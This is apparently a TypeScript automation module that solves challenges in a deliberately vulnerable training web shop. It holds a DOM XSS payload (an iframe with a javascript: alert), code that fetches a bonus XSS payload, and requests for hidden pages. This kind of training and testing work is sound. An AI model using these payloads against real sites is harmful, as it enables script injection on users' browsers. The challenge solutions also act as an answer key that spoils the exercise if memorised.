import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus } from '../../testing/attack-steps'
import { reportFromBrowser } from '../../testing/browser-report'

const DOM_XSS = '<iframe src="javascript:alert(`xss`)">'
const HTML_ENTITIES: Record<string, string> = { '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'", '&amp;': '&' }

/** The bonus payload as the score board shows it (the shop's configured one), in the challenge's description. */
export async function bonusPayload(target: AttackTarget): Promise<string> {
  const listed = expectStatus(await request(target).get('/api/Challenges/?key=xssBonusChallenge'), 200)
  const shown = /<code>(.*?)<\/code>/s.exec(listed.body.data[0]?.description ?? '')?.[1]
  if (!shown) throw new Error('the bonus challenge shows no payload')
  return shown.replace(/&(?:lt|gt|quot|#39|amp);/g, (entity) => HTML_ENTITIES[entity])
}
const PRIVACY_POLICY_PROOF = '/we/may/also/instruct/you/to/refuse/all/reasonably/necessary/responsibility'

/** The tiny image only one page of the web app embeds, fetched the way that page does (its URL as Referer). */
const visitPage = (pixel: string, page: string) => (target: AttackTarget) =>
  request(target).get(`/assets/public/images/padding/${pixel}`).set('Referer', `http://localhost:3000${page}`)

export const clientSideAttacks = {
  scoreBoardChallenge: visitPage('1px.png', '/#/score-board'),
  adminSectionChallenge: visitPage('19px.png', '/#/administration'),
  web3SandboxChallenge: visitPage('11px.png', '/#/web3-sandbox'),
  tokenSaleChallenge: visitPage('56px.png', '/#/tokensale-ico-ea'),
  privacyPolicyChallenge: visitPage('81px.png', '/#/privacy-security/privacy-policy'),
  // the highlighted words of the privacy policy, joined with slashes
  privacyPolicyProofChallenge: (target) => request(target).get(PRIVACY_POLICY_PROOF),
  // the search page puts the query into the DOM unescaped and tells the shop what it showed
  localXssChallenge: (target) => reportFromBrowser(target, 'localXssChallenge', ['verifyLocalXssChallenge', DOM_XSS]),
  xssBonusChallenge: async (target) => reportFromBrowser(target, 'xssBonusChallenge', ['verifyLocalXssChallenge', await bonusPayload(target)]),
  // "close all" on two or more notifications at once (the button appears with several)
  closeNotificationsChallenge: (target) =>
    reportFromBrowser(target, 'closeNotificationsChallenge', ['verifyCloseNotificationsChallenge', ['first', 'second']]),
} satisfies Attacks
